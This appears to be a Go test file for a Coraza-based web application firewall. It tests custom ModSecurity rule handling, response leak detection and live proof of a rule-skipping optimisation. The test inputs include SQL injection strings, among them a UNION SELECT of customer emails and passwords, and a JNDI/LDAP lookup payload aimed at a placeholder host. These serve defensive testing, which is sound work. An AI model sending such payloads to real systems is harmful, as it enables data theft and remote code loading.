package waf

import (
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/corazawaf/coraza/v3"

	"github.com/ordergate/ordergate/rules"
)

// ownRules are rule files of operators, and what clearance makes of them.
var ownRules = []struct {
	name, before, after string
	off                 string // why there is no clearance; "" when there is
	judged              string // a path that must be judged by all rules
	cleared             string // a path that must not
}{
	{name: "a literal on one argument", after: `SecRule ARGS:sku "@streq FORBIDDEN" "id:100001,phase:2,deny,status:403,msg:'own'"`, judged: "/p?sku=FORBIDDEN"},
	{name: "a rule without a literal", after: `SecRule ARGS:sku "@rx ^.{40,}$" "id:100001,phase:2,deny,status:403,msg:'own'"`, judged: "/p?sku=" + strings.Repeat("x", 41)},
	{name: "a negated rule", after: `SecRule ARGS:page "!@rx ^[0-9]{1,4}$" "id:100001,phase:2,deny,status:403,msg:'own'"`, judged: "/p?page=red"},
	{name: "a pattern of names, with an exception", after: `SecRule ARGS:/^price_/|!ARGS:price_max "@gt 100" "id:100001,phase:2,deny,msg:'own'"`, judged: "/p?price_min=200"},
	{name: "a count", after: `SecRule &ARGS:size "@gt 1" "id:100001,phase:2,deny,msg:'own'"`, judged: "/p?size=1&size=2"},
	{name: "a count of all", after: `SecRule &ARGS "@gt 3" "id:100001,phase:2,deny,msg:'own'"`, judged: "/p?a=1&b=2&c=3&d=4"},
	{name: "an absent header", after: `SecRule &REQUEST_HEADERS:X-Shop "@eq 0" "id:100001,phase:1,pass,log,msg:'own'"`, judged: "/p"},
	{name: "a chain", after: `SecRule REQUEST_METHOD "@streq GET" "id:100001,phase:2,deny,msg:'own',chain"
		SecRule ARGS:a "@contains zap" "chain"
		SecRule ARGS:b "@rx ."`, judged: "/p?a=1zapper&b=x"},
	{name: "a chain over what matched", after: `SecRule ARGS:a|ARGS:b "@rx ^[a-z]+%2f" "id:100001,phase:2,deny,msg:'own',t:none,t:lowercase,chain"
		SecRule MATCHED_VARS "@contains /zap" "t:none,t:urlDecodeUni"`, judged: "/p?a=XY%252Fzap", cleared: "/p?a=XY%252Fzip&b=none&c=/zap"},
	{name: "a chain over what matched last", after: `SecRule ARGS:a "@rx ^[a-z]+$" "id:100001,phase:2,deny,msg:'own',t:none,t:lowercase,chain"
		SecRule MATCHED_VAR "@streq zap"`, judged: "/p?a=ZAP", cleared: "/p?a=zip&b=zap"},
	{name: "a chain over what did not match otherwise", after: `SecRule ARGS:a "@rx ^z[a-z]+$" "id:100001,phase:2,deny,msg:'own',chain"
		SecRule MATCHED_VARS "!@streq zap"`, judged: "/p?a=zip"},
	{name: "a chain over what the second link matched", after: `SecRule ARGS:a "@rx ^z[a-z]+$" "id:100001,phase:2,deny,msg:'own',chain"
		SecRule ARGS:b "@rx ^y" "chain"
		SecRule MATCHED_VARS "@contains yak"`, judged: "/p?a=zip&b=yak"},
	{name: "an argument that names another value", after: `SecRule ARGS:a "@streq %{ARGS.b}" "id:100001,phase:2,deny,msg:'own'"`, judged: "/p?a=1&b=1"},
	{name: "a constant of its own", after: `SecAction "id:100001,phase:1,pass,nolog,setvar:tx.mine=zap"
		SecRule ARGS:a "@streq %{tx.mine}" "id:100002,phase:2,deny,msg:'own'"`, judged: "/p?a=zap"},
	{name: "a counter that another rule reads", after: `SecRule ARGS_NAMES "@rx ." "id:100001,phase:2,pass,nolog,setvar:tx.many=+1"
		SecRule TX:many "@gt 3" "id:100002,phase:2,deny,msg:'own'"`, judged: "/p?a=1&b=2&c=3&d=4"},
	{name: "a flag that another rule reads", after: `SecRule REQUEST_FILENAME "@beginsWith /zap" "id:100001,phase:1,pass,nolog,setvar:tx.zap=1"
		SecRule TX:zap "@eq 1" "id:100002,phase:2,deny,msg:'own',chain"
		SecRule REQUEST_METHOD "@streq GET"`, judged: "/zap"},
	{name: "a half of a chain that another rule reads", after: `SecRule REQUEST_FILENAME "@beginsWith /zap" "id:100001,phase:1,pass,msg:'own',chain,setvar:tx.zap=1"
		SecRule ARGS:never "@streq there"
		SecRule TX:zap "@eq 1" "id:100002,phase:2,deny,msg:'own'"`, judged: "/zap"},
	{name: "what another rule captured", after: `SecRule REQUEST_FILENAME "@rx ^/(z.*)$" "id:100001,phase:1,pass,nolog,capture"
		SecRule TX:1 "@streq zap" "id:100002,phase:1,deny,msg:'own'"`, off: "rule 100002 reads what another rule captured"},
	{name: "what it captured itself", after: `SecRule REQUEST_FILENAME "@rx ^/(z.*)$" "id:100001,phase:1,deny,msg:'own',capture,chain"
		SecRule TX:1 "@streq zap" "t:none"`, judged: "/zap"},
	{name: "rules skipped by a route", before: `SecRule REQUEST_URI "@beginsWith /admin" "id:100001,phase:1,pass,nolog,skipAfter:END"
		SecAction "id:100003,phase:1,pass,nolog,setvar:tx.public=1"
		SecMarker END
		SecRule TX:public "!@eq 1" "id:100002,phase:2,deny,msg:'own'"`, judged: "/admin"},
	{name: "rules skipped for all", after: `SecAction "id:100001,phase:2,pass,nolog,skipAfter:END"
		SecRule ARGS:a "@streq zap" "id:100002,phase:2,deny,msg:'own'"
		SecMarker END`},
	{name: "the engine off for a route", before: `SecRule REQUEST_URI "@beginsWith /api" "id:100001,phase:1,pass,nolog,ctl:ruleEngine=Off"`, judged: "/api/x"},
	{name: "an exclusion for a route", before: `SecRule REQUEST_URI "@beginsWith /login" "id:100001,phase:1,pass,nolog,ctl:ruleRemoveTargetById=942100;ARGS:password"`},
	{name: "a rule removed for a route", before: `SecRule REQUEST_URI "@beginsWith /login" "id:100001,phase:1,pass,nolog,ctl:ruleRemoveById=901200"`, judged: "/login"},
	{name: "the parser taken away for all", before: `SecAction "id:100001,phase:1,pass,nolog,ctl:ruleRemoveById=200001"`},
	{name: "the parser taken away for a route", before: `SecRule REQUEST_URI "@beginsWith /api" "id:100001,phase:1,pass,nolog,ctl:ruleRemoveTargetById=200001;REQUEST_HEADERS:Content-Type"`},
	{name: "the chain of a flag", after: `SecRule REQUEST_FILENAME "@beginsWith /zap" "id:100001,phase:1,pass,nolog,setvar:tx.a=1"
		SecRule TX:a "@eq 1" "id:100002,phase:1,pass,nolog,setvar:tx.b=zap"
		SecRule REQUEST_METHOD "@streq GET" "id:100003,phase:2,deny,msg:'own',chain"
		SecRule TX:b "@streq zap"`, judged: "/zap"},
	{name: "an argument that another rule sets", after: `SecRule REQUEST_FILENAME "@beginsWith /zap" "id:100001,phase:1,pass,nolog,setvar:tx.b=%{REQUEST_METHOD}"
		SecRule ARGS:m "@streq %{tx.b}" "id:100002,phase:2,deny,msg:'own'"`, judged: "/zap?m=GET"},
	{name: "an argument left behind", after: `SecRule ARGS:a "@streq %{MATCHED_VAR}" "id:100001,phase:2,deny,msg:'own'"`, off: "rule 100001 reads MATCHED_VAR"},
	{name: "a rule removed for all", after: `SecRuleRemoveById 942100`},
	{name: "a target removed for all", after: `SecRuleUpdateTargetById 942100 "!ARGS:q"`},
	{name: "a target added for all", after: `SecRuleUpdateTargetById 913100 "REQUEST_HEADERS:Referer"`},
	{name: "a body read otherwise", before: `SecRule REQUEST_URI "@beginsWith /raw" "id:100001,phase:1,pass,nolog,ctl:requestBodyProcessor=URLENCODED"`},
	{name: "a hit on every request", after: `SecAction "id:100001,phase:1,pass,log,msg:'every request'"`},
	{name: "a hit on every GET", after: `SecRule REQUEST_METHOD "@streq GET" "id:100001,phase:1,pass,log,msg:'every GET'"`, judged: "/p"},
	{name: "what the last match was", after: `SecRule MATCHED_VAR "@streq zap" "id:100001,phase:2,deny,msg:'own'"`, off: "rule 100001 reads MATCHED_VAR"},
	{name: "phase 5", after: `SecRule RESPONSE_STATUS "^5" "id:100001,phase:5,pass,log,msg:'own'"`, off: "rule 100001 runs in phase 5"},
	{name: "everything allowed", before: `SecAction "id:100001,phase:1,allow,nolog"`, off: `rule 100001 does "allow"`},
	{name: "an audit log", after: `SecAuditEngine On`, off: "SecAuditEngine"},
	{name: "read before it is set", before: `SecRule ARGS:a "@streq %{tx.crs_setup_version}" "id:100001,phase:1,deny,msg:'own'"
		SecRule ARGS_GET:b "@streq %{tx.late}" "id:100002,phase:1,deny,msg:'own'"
		SecAction "id:100003,phase:2,pass,nolog,setvar:tx.late=1"`, off: "rule 100002 reads TX:late before rule 100003 sets it"},
	{name: "sampling", before: `SecAction "id:100001,phase:1,pass,nolog,setvar:tx.sampling_percentage=50"`, judged: "/p"},
	{name: "a time of day", after: `SecRule TIME_HOUR "@ge 0" "id:100001,phase:1,pass,log,msg:'own'"`, judged: "/p"},
	{name: "an operator that nobody analysed", after: `SecRule ARGS:a "@validateNid us ([0-9]{3}-?[0-9]{2}-?[0-9]{4})" "id:100001,phase:2,deny,msg:'own'"`, judged: "/p?a=078-05-1120"},
	{name: "hash and compare", after: `SecRule ARGS:a "@streq 2e6f9b0d5885b6010f9167787445617f553a735f" "id:100001,phase:2,deny,msg:'own',t:none,t:sha1,t:hexEncode"`},
}

// TestOwnRules proves clearance for rules of operators: what must be judged by
// all rules is, and what is cleared, all rules let pass.
func TestOwnRules(t *testing.T) {
	for i, c := range ownRules {
		if testing.Short() && i%8 > 0 { // each is a rule set or three to compile
			continue
		}
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			config := Config{Paranoia: 1, Threshold: 5, RequestBody: 128 << 10}
			dir := t.TempDir()
			for name, text := range map[string]string{"own-before.conf": c.before, "own.conf": c.after} {
				if text == "" {
					continue
				}
				file := filepath.Join(dir, name)
				if err := os.WriteFile(file, []byte(text), 0o600); err != nil {
					t.Fatal(err)
				}
				config.Files = append(config.Files, file)
			}
			s, err := newSubject(config)
			if c.off != "" {
				if err == nil || !strings.Contains(err.Error(), c.off) {
					t.Errorf("error %v, want one with %q", err, c.off)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			get := func(path string) *Request {
				return browser("GET", path, 1, "", "")
			}
			if c.judged != "" {
				if s.clears(get(c.judged)) {
					t.Errorf("%s is cleared", c.judged)
				}
			} else if !s.clears(get("/p")) {
				t.Error("/p is not cleared")
			}
			if c.cleared != "" && !s.clears(get(c.cleared)) {
				t.Errorf("%s is not cleared", c.cleared)
			}
			traffic := newTraffic(5, s.analysis)
			requests := []*Request{get("/p"), get("/p?a=1"), get("/login?password=1%27or%201=1--"), get("/api/x?q=1"), get("/raw")}
			for range 12 {
				requests = append(requests, traffic.request(traffic.clean), traffic.request(traffic.attack))
			}
			for _, r := range requests {
				if _, err := s.prove(r); err != nil {
					t.Fatal(err)
				}
			}
		})
	}
}

// TestClearedHits: what matches on every request is still reported.
func TestClearedHits(t *testing.T) {
	file := filepath.Join(t.TempDir(), "own.conf")
	if err := os.WriteFile(file, []byte(`SecAction "id:100001,phase:1,pass,log,msg:'every request',severity:NOTICE"`), 0o600); err != nil {
		t.Fatal(err)
	}
	engine, err := New(Config{Paranoia: 1, Threshold: 5, RequestBody: 1 << 10, Files: []string{file}})
	if err != nil {
		t.Fatal(err)
	}
	tx := engine.Begin(rules.ExchangeID{1})
	if v, err := tx.Request(browser("GET", "/p", 1, "", "")); err != nil || v != rules.Passed {
		t.Fatal(v, err)
	}
	report, err := tx.Finish()
	if err != nil || report.Clearance != Cleared || len(report.Hits) != 1 || report.Hits[0] != (Hit{100001, "notice"}) {
		t.Errorf("%+v, %v: want the hit of rule 100001, cleared", report, err)
	}
	if own := engine.Account().Own; len(own) != 1 || own[0].ID != 100001 {
		t.Errorf("the account names the own rules %v, want 100001", own)
	}
}

// responses are what exchanges answer, an answer that leaks beside one that
// does not.
var responses = []struct {
	name, contentType, body string
	status                  int
	clearance               Clearance
	refused                 bool
}{
	{"a page", "text/html; charset=utf-8", "<html><body>Our guide to the manual gearbox, line 1</body></html>", 200, Cleared, false},
	{"a database error", "text/html", "<html>You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near '1' at line 1</html>", 200, JudgedResponse, true},
	{"a word that such an error has", "text/html", "<html>SQL error messages of Oracle, and how to read ORA-0 numbers: a book</html>", 200, Cleared, false},
	{"source code", "text/plain", "<?php $db = mysql_connect($host); echo fopen($x); ?>", 200, JudgedResponse, true},
	{"JSON, which has no rules", "application/json", `{"error":"You have an error in your SQL syntax"}`, 200, Cleared, false},
	{"a server error", "text/html", "<html>Sorry</html>", 500, Cleared, false},
	{"a file that is not there", "text/html", "<html>Not found</html>", 404, Cleared, false},
	{"a long page", "text/html", "<html>" + strings.Repeat("<p>A pot for tea, blue.</p>\n", 4000), 200, Cleared, false},
	{"a long page that leaks at its beginning", "text/html", "<html>ORA-01756: quoted string not properly terminated" + strings.Repeat("<p>A pot for tea, blue.</p>\n", 4000), 200, JudgedResponse, true},
	{"no body at all", "text/html", "", 204, Cleared, false},
}

// TestResponses compares whole exchanges with and without clearance.
func TestResponses(t *testing.T) {
	for _, level := range []int{1, 2} {
		if testing.Short() && level > 1 {
			continue
		}
		config := Config{Paranoia: level, Threshold: 5, RequestBody: 128 << 10, ResponseBody: 64 << 10}
		quick, err := New(config)
		if err != nil {
			t.Fatal(err)
		}
		config.Uncleared = true
		full, err := New(config)
		if err != nil {
			t.Fatal(err)
		}
		for _, c := range responses {
			t.Run(c.name, func(t *testing.T) {
				header := http.Header{"Content-Type": {c.contentType}, "Set-Cookie": {"a=b"}}
				gotVerdict, got := exchange(t, quick, storefront["form-post"](1), answer{c.status, header, c.body})
				wantVerdict, want := exchange(t, full, storefront["form-post"](1), answer{c.status, header, c.body})
				clearance := got.Clearance
				got.Clearance = Uncleared
				if gotVerdict != wantVerdict || !sameReport(got, want) {
					t.Errorf("with clearance %+v %+v, without %+v %+v", gotVerdict, got, wantVerdict, want)
				}
				if level == 1 && (clearance != c.clearance || (gotVerdict != rules.Passed) != c.refused) {
					t.Errorf("clearance %v and verdict %+v, want %v, refused %v", clearance, gotVerdict, c.clearance, c.refused)
				}
			})
		}
	}
}

func sameReport(a, b Report) bool {
	if len(a.Hits) != len(b.Hits) || a.Inbound != b.Inbound || a.Outbound != b.Outbound || a.Blocked != b.Blocked || a.Detected != b.Detected {
		return false
	}
	for i := range a.Hits {
		if a.Hits[i] != b.Hits[i] {
			return false
		}
	}
	return true
}

// answer is what the platform answers.
type answer struct {
	status int
	header http.Header
	body   string
}

// exchange runs all phases, the body in pieces.
func exchange(t testing.TB, engine *Engine, r *Request, a answer) (rules.Verdict, Report) {
	t.Helper()
	tx := engine.Begin(rules.ExchangeID{2})
	verdict, err := tx.Request(r)
	if err == nil && verdict == rules.Passed {
		verdict = tx.Header(a.status, "HTTP/1.1", a.header)
	}
	if wants := tx.WantsBody(); err == nil && verdict == rules.Passed && wants > 0 {
		for rest := a.body[:min(len(a.body), wants)]; rest != "" && err == nil && verdict == rules.Passed; {
			piece := rest[:min(len(rest), 9000)]
			rest = rest[len(piece):]
			verdict, err = tx.Write([]byte(piece))
		}
		if err == nil && verdict == rules.Passed {
			verdict, err = tx.Body()
		}
	}
	if err != nil {
		t.Fatal(err)
	}
	report, err := tx.Finish()
	if err != nil {
		t.Fatal(err)
	}
	return verdict, report
}

// TestLiveProof: cleared exchanges are judged again; a clearance that is wrong
// ends at the first of them.
func TestLiveProof(t *testing.T) {
	proofs := make(chan Proof, 1)
	engine, err := New(Config{Paranoia: 1, Threshold: 5, RequestBody: 1 << 10, ResponseBody: 64 << 10, Sample: 1, Proved: func(p Proof) { proofs <- p }})
	if err != nil {
		t.Fatal(err)
	}
	attack := browser("GET", "/search?q=1%27%20UNION%20SELECT%20email,password%20FROM%20customers--", 1, "", "")
	header := http.Header{"Content-Type": {"text/html"}}
	await := func(want bool) {
		t.Helper()
		select {
		case p := <-proofs:
			if p.Err != nil || p.Agreed != want {
				t.Fatalf("%+v, want agreed %v", p, want)
			}
		case <-time.After(time.Minute):
			t.Fatal("no proof came")
		}
	}
	if _, report := exchange(t, engine, storefront["form-post"](1), answer{200, header, "<html>a page</html>"}); report.Clearance != Cleared {
		t.Fatalf("%+v: want it cleared", report)
	}
	await(true)
	if verdict, report := exchange(t, engine, attack, answer{200, header, ""}); verdict == rules.Passed || report.Clearance != JudgedRequest {
		t.Fatalf("an attack: %+v %+v", verdict, report)
	}
	await(true)
	for i := range engine.clearance.checks {
		engine.clearance.checks[i].phase = 9 // nothing is checked any more
	}
	if verdict, _ := exchange(t, engine, attack, answer{200, header, ""}); verdict != rules.Passed {
		t.Fatalf("the clearance is not broken: %+v", verdict)
	}
	await(false)
	if verdict, report := exchange(t, engine, attack, answer{200, header, ""}); verdict == rules.Passed || report.Clearance != Uncleared {
		t.Errorf("after the live proof failed: %+v %+v: want the full rule set's verdict", verdict, report)
	}
}

// TestLiveProofOfFollowers: so are exchanges that were judged; a rule set whose
// expressions are followed wrongly ends at the first of them.
func TestLiveProofOfFollowers(t *testing.T) {
	proofs := make(chan Proof, 1)
	engine, err := New(Config{Paranoia: 1, Threshold: 5, RequestBody: 1 << 10, Sample: 1, Proved: func(p Proof) { proofs <- p }})
	if err != nil {
		t.Fatal(err)
	}
	list, err := compiledRules(engine.judges)
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range list { // nothing matches any more, except to those that ask first
		for i := range r.links {
			if f, ok := r.links[i].operator.(*follower); ok && !r.links[i].negated {
				f.dfa = func() *dfa { return newDFA(`\b\B`, false, newRoom()) }
			}
		}
	}
	attack := browser("GET", "/p?a=%24%7Bjndi:ldap://203.0.113.1/a%7D", 1, "", "")
	verdict, report := exchange(t, engine, attack, answer{})
	if report.Clearance != JudgedRequest || verdict != rules.Passed {
		t.Fatalf("the followers are not broken: %+v %+v", verdict, report)
	}
	if p := <-proofs; p.Err != nil || p.Agreed || len(p.Rules) == 0 {
		t.Fatalf("%+v, want it refuted by name", p)
	}
	if verdict, report := exchange(t, engine, attack, answer{}); verdict == rules.Passed || report.Clearance != Uncleared {
		t.Errorf("after the live proof failed: %+v %+v: want the full rule set's verdict", verdict, report)
	}
}

// TestParallel judges many exchanges at once, for the race detector.
func TestParallel(t *testing.T) {
	engine, err := New(Config{Paranoia: 1, Threshold: 5, RequestBody: 128 << 10, ResponseBody: 64 << 10, Sample: 10})
	if err != nil {
		t.Fatal(err)
	}
	header := http.Header{"Content-Type": {"text/html"}}
	for worker := range 4 {
		t.Run("", func(t *testing.T) {
			t.Parallel()
			for i := range 25 {
				n := worker*7 + i // some values are known already, some are not
				for _, name := range []string{"product-get", "json-post"} {
					if verdict, report := exchange(t, engine, storefront[name](n), answer{200, header, "<html>a page</html>"}); verdict != rules.Passed || report.Clearance != Cleared {
						t.Errorf("%+v %+v: want it cleared", verdict, report)
					}
				}
				if i%5 > 0 {
					continue
				}
				if verdict, report := exchange(t, engine, browser("GET", "/search?q=1%27%20or%201=1--", n, "", ""), answer{}); verdict == rules.Passed {
					t.Errorf("%+v: an attack passed", report)
				}
			}
		})
	}
}

// TestAllocations keeps a cleared exchange from growing: most of it is Coraza's
// own parsing.
func TestAllocations(t *testing.T) {
	if raceEnabled {
		t.Skip("the race detector allocates")
	}
	engine, err := New(Config{Paranoia: 1, Threshold: 5, RequestBody: 128 << 10})
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		name string
		most float64
	}{{"product-get", 80}, {"order-get", 55}, {"form-post", 280}, {"json-post", 280}} {
		n := 0
		judge := func() {
			n++
			tx := engine.Begin(rules.ExchangeID{1})
			if _, err := tx.Request(storefront[c.name](n)); err != nil || tx.quick == nil {
				t.Fatal("not cleared", err)
			}
			if _, err := tx.Finish(); err != nil {
				t.Fatal(err)
			}
		}
		for range 200 { // what the first of a kind teaches the engine is no part of each
			judge()
		}
		if got := testing.AllocsPerRun(200, judge); got > c.most {
			t.Errorf("%s: %v allocations, want at most %v", c.name, got, c.most)
		}
	}
}

// TestControls: the numbers of controls are read from inside Coraza.
func TestControls(t *testing.T) {
	for name, want := range map[string]int{
		"ruleRemoveTargetById=1;ARGS:a": ctlRemoveTargetByID, "ruleRemoveTargetByTag=x;ARGS:a": ctlRemoveTargetByTag, "ruleRemoveTargetByMsg=x;ARGS:a": ctlRemoveTargetByMsg,
		"auditEngine=Off": ctlAuditEngine, "auditLogParts=+E": ctlAuditLogParts, "forceRequestBodyVariable=On": ctlForceRequestBody,
		"requestBodyAccess=On": ctlRequestBodyAccess, "requestBodyLimit=1": ctlRequestBodyLimit, "ruleEngine=Off": ctlRuleEngine,
		"ruleRemoveById=1": ctlRemoveByID, "ruleRemoveByMsg=x": ctlRemoveByMsg, "ruleRemoveByTag=x": ctlRemoveByTag, "requestBodyProcessor=JSON": ctlRequestBodyProcessor,
	} {
		w, err := coraza.NewWAF(coraza.NewWAFConfig().WithDirectives(`SecAction "id:1,phase:1,pass,nolog,ctl:` + name + `"`))
		if err != nil {
			t.Fatal(err)
		}
		compiled, err := compiledRules(w)
		if err != nil {
			t.Fatal(err)
		}
		i := slices.IndexFunc(compiled[0].links[0].actions, func(a action) bool { return a.name == "ctl" })
		if got := compiled[0].links[0].actions[i].ctl; got != want {
			t.Errorf("ctl:%s has number %d in Coraza, %d here", name, got, want)
		}
	}
}
